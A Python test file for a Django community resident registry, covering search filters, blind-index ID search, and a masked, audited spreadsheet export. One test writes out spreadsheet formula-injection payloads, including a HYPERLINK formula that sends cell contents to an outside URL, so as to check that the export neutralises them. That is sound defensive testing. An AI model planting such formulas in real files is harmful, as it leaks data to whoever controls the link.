"""Combined search filters, the last-four search, and the masked export."""

import csv
import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook

from shequ.core.choices import AuditEvent
from shequ.core.models import AuditEntry
from shequ.core.tests.factories import login
from shequ.registry.exporting import MAX_EXPORT_ROWS
from shequ.registry.models import KeyPopulationTag, Resident
from shequ.registry.selectors_search import ResidentFilters, resident_search
from shequ.registry.services import resident_tag_add
from shequ.registry.services_events import resident_remove, resident_restore
from shequ.registry.tests.factories import make_household, make_resident, new_id

pytestmark = pytest.mark.django_db
ID18 = re.compile(r"\d{17}[\dX]")
PHONE = re.compile(r"1[3-9]\d{9}")


@pytest.fixture
def ledger(city):
    unit = city.units["A1a"]
    old_home = make_household(unit, room="101")
    young_home = make_household(unit, room="202")
    elder = make_resident(
        old_home,
        name="欧阳奶奶",
        gender="female",
        id_number=new_id(date(1940, 5, 1), male=False),
        mobile="13800138000",
    )
    resident_tag_add(
        actor=None, resident=elder, tag=KeyPopulationTag.objects.get(code="elderly_alone")
    )
    worker = make_resident(
        young_home, name="张三", id_number=new_id(date(1990, 1, 1)), residence_type="floating"
    )
    child = make_resident(
        young_home, name="张小", id_number=new_id(date(2015, 6, 1)), living_status="absent"
    )
    resident_tag_add(
        actor=None, resident=child, tag=KeyPopulationTag.objects.get(code="left_behind_child")
    )
    far = make_resident(
        make_household(city.units["A1b"]), name="张远", id_number=new_id(date(1990, 1, 2))
    )
    return {"elder": elder, "worker": worker, "child": child, "far": far, "unit": unit}


def _names(actor, **filters):
    return [r.name for r in resident_search(actor=actor, filters=ResidentFilters(**filters))]


def test_filters_combine_and_stay_in_scope(people, ledger, city):
    gw = people["grid_worker"]
    assert _names(gw) == ["欧阳奶奶", "张三", "张小"]  # pinyin order, nothing from grid A1b
    assert _names(gw, tags=["elderly_alone", "left_behind_child"]) == ["欧阳奶奶", "张小"]
    assert _names(gw, age_min=60) == ["欧阳奶奶"]
    assert _names(gw, age_min=18, age_max=60) == ["张三"]
    assert _names(gw, residence_type="floating") == ["张三"]
    assert _names(gw, living_status="absent") == ["张小"]
    assert _names(gw, area_id=ledger["unit"].pk, room="202") == ["张三", "张小"]
    assert _names(gw, query="zhang", age_max=17) == ["张小"]
    assert _names(gw, sort="-age") == ["欧阳奶奶", "张三", "张小"]
    assert _names(gw, sort="age") == ["张小", "张三", "欧阳奶奶"]
    # Filters never widen the scope: grid A1b's unit is no way in.
    assert _names(gw, area_id=city.units["A1b"].pk) == []
    assert _names(people["community_worker"], query="张") == ["张三", "张小", "张远"]


def test_last_four_digits_match_through_the_blind_index(people, ledger):
    elder = ledger["elder"]
    last4 = elder.id_number[-4:]
    assert Resident.objects.get(pk=elder.pk).id_last4_index  # stored, not the digits
    assert last4 not in Resident.objects.get(pk=elder.pk).id_last4_index
    assert _names(people["grid_worker"], id_last4=last4) == ["欧阳奶奶"]
    assert _names(people["grid_worker_b"], id_last4=last4) == []
    if last4[-1] == "X":
        assert _names(people["grid_worker"], id_last4=last4.lower()) == ["欧阳奶奶"]
    from shequ.core.errors import InvalidInput

    with pytest.raises(InvalidInput):
        _names(people["grid_worker"], id_last4="12a4")


def test_removed_residents_leave_lists_and_come_back(people, ledger):
    gw, cw = people["grid_worker"], people["community_worker"]
    resident_remove(actor=gw, resident=ledger["worker"], reason="重复登记")
    assert "张三" not in _names(gw)
    assert _names(gw, removed=True) == ["张三"]
    resident_restore(actor=cw, resident=ledger["worker"])
    assert "张三" in _names(gw) and _names(gw, removed=True) == []


def test_web_filters_are_posted(client, people, ledger):
    login(client, people["grid_worker"])
    page = client.post(
        "/registry/residents/", {"q": "", "id_last4": ledger["worker"].id_number[-4:]}
    )
    assert [r.name for r in page.context["page"]] == ["张三"]
    page = client.post("/registry/residents/", {"tags": ["left_behind_child"], "age_max": "17"})
    assert [r.name for r in page.context["page"]] == ["张小"]
    bad = client.post("/registry/residents/", {"id_last4": "abcd"})
    assert bad.status_code == 400 and "后四位" in bad.content.decode()


def _rows_xlsx(response):
    book = load_workbook(io.BytesIO(response.content))
    return book, [list(row) for row in book.active.iter_rows(values_only=True)]


def test_export_is_masked_scoped_and_audited(client, people, ledger):
    login(client, people["grid_worker"])
    before = AuditEntry.objects.filter(event_type=AuditEvent.EXPORT).count()
    response = client.post("/registry/residents/export/", {"format": "xlsx", "q": ""})
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    book, rows = _rows_xlsx(response)
    names = [row[0] for row in rows[2:]]
    assert names == ["欧阳奶奶", "张三", "张小"]  # nothing from grid A1b
    text = repr(rows)
    assert not ID18.search(text) and not PHONE.search(text)
    assert rows[2][4] == ledger["elder"].id_number_masked and rows[2][5] == "138****8000"
    assert book.properties.creator == people["grid_worker"].username
    lines = AuditEntry.objects.filter(event_type=AuditEvent.EXPORT).order_by("id")
    assert lines.count() == before + 1
    line = lines.last()
    assert line.detail["row_count"] == 3 and line.detail["masked"] is True
    assert line.detail["filters"]["query"] is False


def test_export_filters_and_csv(client, people, ledger):
    login(client, people["community_worker"])
    response = client.post(
        "/registry/residents/export/",
        {"format": "csv", "q": "", "id_last4": ledger["far"].id_number[-4:]},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r[0] for r in rows[2:]] == ["张远"]
    line = AuditEntry.objects.filter(event_type=AuditEvent.EXPORT).last()
    assert line.detail["filters"]["id_last4"] is True  # that it was used, never the digits
    assert ledger["far"].id_number[-4:] not in repr(line.detail)


def test_export_neutralises_formulas(client, people, city):
    home = make_household(city.units["A1a"])
    evil = '=HYPERLINK("http://x?"&A1,"a")'
    make_resident(home, name=evil, notes="x", work_or_school="+1")
    make_resident(home, name="@SUM(1)", work_or_school="-2+3")
    login(client, people["grid_worker"])
    _book, rows = _rows_xlsx(client.post("/registry/residents/export/", {"format": "xlsx"}))
    cells = [row[0] for row in rows[2:]] + [row[12] for row in rows[2:]]
    assert "'" + evil in cells and "'@SUM(1)" in cells and "'+1" in cells and "'-2+3" in cells
    response = client.post("/registry/residents/export/", {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    for row in book.active.iter_rows(min_row=3):
        for cell in row:
            assert cell.data_type != "f"
    csv_rows = list(
        csv.reader(
            io.StringIO(
                client.post("/registry/residents/export/", {"format": "csv"}).content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    assert any(r[0] == "'" + evil for r in csv_rows)


def test_export_row_cap(client, people, ledger, monkeypatch):
    monkeypatch.setattr("shequ.registry.exporting.MAX_EXPORT_ROWS", 2)
    login(client, people["grid_worker"])
    before = AuditEntry.objects.filter(event_type=AuditEvent.EXPORT).count()
    response = client.post("/registry/residents/export/", {"format": "xlsx"})
    assert response.status_code == 400
    assert "上限" in response.content.decode()
    assert AuditEntry.objects.filter(event_type=AuditEvent.EXPORT).count() == before
    assert MAX_EXPORT_ROWS == 50_000


def test_export_is_refused_to_those_without_the_ledger(client, people, ledger):
    login(client, people["volunteer"])
    assert client.post("/registry/residents/export/", {"format": "xlsx"}).status_code == 403
    login(client, people["grid_worker"])
    assert client.get("/registry/residents/export/").status_code == 405
